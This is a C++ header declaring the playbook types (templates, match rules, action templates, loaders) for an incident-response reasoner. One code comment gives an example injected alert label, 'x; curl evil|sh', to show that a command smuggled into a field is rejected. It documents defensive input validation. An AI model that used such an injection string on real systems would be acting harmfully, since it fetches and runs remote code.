// Playbook: one YAML rule of the deterministic reasoner — when an incident matches, which actions
// to propose and how to explain them. The format is documented in docs/playbooks.md.
//
// A Playbook is an immutable value after ParsePlaybook(); Matches() and the templates' Render()
// are const and safe from any thread. Rendering needs the incident's vault (not thread-safe) only
// to redact the playbook's own literal text; values from the context are Redacted already and are
// copied, never re-scanned.
#pragma once

#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "absl/status/statusor.h"
#include "awoooi/brain/proposal.h"
#include "awoooi/brain/reasoner.h"
#include "awoooi/privacy/redacted.h"

namespace awoooi::privacy {
class Shield;
class Vault;
}  // namespace awoooi::privacy

namespace awoooi::brain::playbook {

// A text with {{variable}} slots, parsed once at load time. A slot lists
// alternatives separated by '|': the first non-empty one wins; a quoted alternative ("3") is a
// literal default. Variables: service, service_kind, alertname, severity, namespace, root_cause,
// root_cause.service|kind|namespace|path|reason|severity, root_causes.count, blast_radius,
// blast_radius.count, playbook, labels.<name>, annotations.<name>.
class Template {
 public:
  static absl::StatusOr<Template> Parse(std::string_view text);
  // The rendered text; empty when every part rendered empty (used to drop actions whose target
  // the context cannot supply).
  privacy::Redacted Render(const ReasoningContext& context, std::string_view playbook_name,
                           const privacy::Shield& shield, privacy::Vault& vault) const;
  bool empty() const { return parts_.empty(); }

 private:
  struct Part {
    std::string literal;                    // when alternatives is empty
    std::vector<std::string> alternatives;  // variable names or "\"literal\""
  };
  std::vector<Part> parts_;
};

// Each listed field must hold (AND); a list of values holds when any entry matches (OR). Values are
// case-insensitive globs ('*' matches any run of characters).
struct MatchRule {
  std::vector<std::string> alertname;        // the incident's alertname or any alert's alertname label
  std::vector<std::string> severity;         // the incident's severity
  std::vector<std::string> root_cause_kind;  // the top-ranked root cause's kind ("none" when none)
  std::vector<std::string> service_kind;     // the incident service's topology kind
  std::map<std::string, std::vector<std::string>> labels;  // all hold on one firing alert
  // Names of the criteria, for the reasoning ("alertname matches KubePodCrashLooping").
  std::vector<std::string> Explain(const ReasoningContext& context) const;
  bool Matches(const ReasoningContext& context) const;
  int criteria() const;
};

// An action with template slots. Rendered values are typed by action::Build: a slot whose value
// does not parse as its parameter's type (an alert label such as "x; curl evil|sh" for a
// certificate name) turns the action into `investigate`, with the reason in the proposal.
struct ActionTemplate {
  action::Kind kind = action::Kind::kInvestigate;
  std::string target_kind;  // "" = the kind's default
  Template target;
  std::map<std::string, Template> parameters;
  Template expected_effect;
};

struct Playbook {
  std::string name;
  std::string description;
  std::string source;  // file name, for error messages
  int priority = 0;
  std::vector<MatchRule> match;  // any rule may match; empty = matches everything
  double confidence = 0.5;
  Template summary;
  Template evidence;
  std::vector<Template> steps;  // the playbook's own explanation, streamed as reasoning
  std::vector<ActionTemplate> actions;

  // The matching rule, or nullptr.
  const MatchRule* FirstMatch(const ReasoningContext& context) const;
};

// Parses one playbook document. Errors name the source and the key ("crash.yaml: actions[0].type:
// unknown action type \"reboot\"").
absl::StatusOr<Playbook> ParsePlaybook(std::string_view yaml, std::string_view source);

// Loads every *.yaml / *.yml file of `dir`, sorted by file name.
absl::StatusOr<std::vector<Playbook>> LoadPlaybookDir(const std::string& dir);

// The default set (playbooks/*.yaml, embedded into the binary): {file name, YAML text}.
const std::vector<std::pair<std::string_view, std::string_view>>& DefaultPlaybookFiles();
absl::StatusOr<std::vector<Playbook>> LoadDefaultPlaybooks();

// Case-insensitive glob with '*'.
bool GlobMatch(std::string_view pattern, std::string_view text);

}  // namespace awoooi::brain::playbook
